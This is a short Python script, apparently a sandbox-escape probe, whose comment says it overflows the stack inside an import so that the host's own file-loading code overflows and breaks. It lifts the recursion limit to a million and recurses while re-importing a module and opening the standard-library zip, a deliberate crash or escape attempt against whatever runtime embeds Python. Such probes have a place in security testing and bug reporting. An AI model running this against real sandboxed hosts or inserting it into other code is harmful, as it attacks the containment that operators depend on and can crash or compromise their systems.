# hold: overflows the stack inside an import, where Python calls the host for files. Escape: the host's own code overflows and breaks.
import sys

sys.setrecursionlimit(10**6)


def deep(n):
    sys.modules.pop('colorsys', None)
    import colorsys

    open('/lib/python314.zip', 'rb').close()
    return deep(n + 1)


try:
    deep(0)
except RecursionError:
    pass
deep(0)
